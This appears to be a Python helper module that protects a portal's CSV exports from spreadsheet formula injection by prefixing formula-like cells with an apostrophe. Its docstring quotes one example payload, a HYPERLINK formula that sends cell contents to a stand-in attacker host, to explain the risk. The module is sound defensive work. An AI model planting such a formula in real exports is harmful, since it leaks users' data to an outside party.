"""CSV cells a spreadsheet will not run: text that starts like a formula is written with a leading apostrophe.

Excel, LibreOffice and Google Sheets treat a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some of
them, a tab or a carriage return before one of those) as a formula when the CSV is opened: a display name such as
``=HYPERLINK("http://evil.example/?"&A1,"click")`` in a cost export would run on the team lead's machine. Such text
gets a leading ``'`` (OWASP's advice): shown as typed, never evaluated. Numbers (``-3.50``) are left as they are,
so that the columns stay numbers. Every CSV the portal writes passes its cells through :func:`csv_cell`.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Mapping
from typing import Any

#: The first characters that make a spreadsheet read a cell as a formula (or hide one behind whitespace).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$")


def csv_cell(value: Any) -> Any:
    """``value`` as a CSV cell: text that starts like a formula with a leading ``'``; numbers and the rest as given."""
    if isinstance(value, str) and value.startswith(FORMULA_START) and not _NUMBER.match(value):
        return "'" + value
    return value


def csv_row(values: Iterable[Any]) -> list[Any]:
    """A row of cells for ``csv.writer``."""
    return [csv_cell(v) for v in values]


def csv_dict(row: Mapping[str, Any]) -> dict[str, Any]:
    """A row of cells for ``csv.DictWriter`` (the keys are the portal's own column names)."""
    return {k: csv_cell(v) for k, v in row.items()}
